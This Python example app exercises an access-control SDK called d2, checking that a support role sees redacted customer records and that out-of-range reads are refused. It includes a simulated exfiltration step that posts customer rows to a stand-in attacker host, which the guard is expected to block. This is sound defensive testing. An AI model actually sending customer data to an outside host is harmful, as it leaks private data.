"""An app written only against the vendor SDK's documented API (the seeds). It runs unchanged on d2.

Run: python examples/vendor_app/app.py   (prints one line per step; exits 0 when every step behaved)
"""

from __future__ import annotations

import asyncio
import sys
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import d2
from d2 import clear_context, configure_rbac_sync, d2_guard, set_user
from d2.exceptions import PermissionDeniedError

CUSTOMERS = [
    {"name": "Ada", "email": "ada@example.com", "ssn": "123-45-6789"},
    {"name": "Bob", "email": "bob@example.com", "ssn": "987-65-4321"},
]


@d2_guard("db.read_customers")
def read_customers(limit: int = 10) -> list[dict[str, str]]:
    return [dict(row) for row in CUSTOMERS[:limit]]


@d2_guard("web.http_post")
def http_post(url: str, body: object) -> str:
    return f"posted to {url}"


@d2_guard("mail.send", on_deny="mail not sent")
async def send_mail(to: str) -> str:
    return f"sent to {to}"


@clear_context
def handle_request(user: str, roles: list[str]) -> list[dict[str, str]]:
    set_user(user, roles=roles)
    return read_customers(limit=2)


def main() -> int:
    configure_rbac_sync(str(Path(__file__).with_name("policy.yaml")))
    results: list[tuple[str, bool]] = []

    rows = handle_request("agent-1", ["support"])
    results.append(
        (
            "support reads customers, ssn filtered, email redacted",
            all("ssn" not in r and r["email"] != "ada@example.com" for r in rows),
        )
    )
    results.append(("context cleared after the request", d2.get_user_context().user_id is None))

    with d2.set_user_context("agent-1", ["support"]):
        read_customers(limit=1)
        try:
            http_post("https://attacker.example", rows)
            results.append(("exfiltration after a read is refused", False))
        except PermissionDeniedError as exc:
            results.append(("exfiltration after a read is refused", exc.reason == "sequence_violation"))
        try:
            read_customers(limit=500)
            results.append(("an out-of-range limit is refused", False))
        except PermissionDeniedError as exc:
            results.append(("an out-of-range limit is refused", exc.reason == "input_validation"))

    with d2.run_as("visitor", ["guest"]):
        results.append(
            ("on_deny value returned for an unknown role", asyncio.run(send_mail("x@y")) == "mail not sent")
        )

    actor = d2.UserContext(user_id="ops", roles=frozenset(["admin"]))
    with ThreadPoolExecutor(1) as pool:
        future = d2.threads.submit_with_context(pool, http_post, "https://ok.example", {}, actor=actor)
        results.append(
            ("explicit actor in a worker thread", future.result() == "posted to https://ok.example")
        )

    d2.shutdown_rbac()
    for name, ok in results:
        print(f"{'ok ' if ok else 'FAIL'} {name}")
    return 0 if all(ok for _, ok in results) else 1


if __name__ == "__main__":
    sys.exit(main())
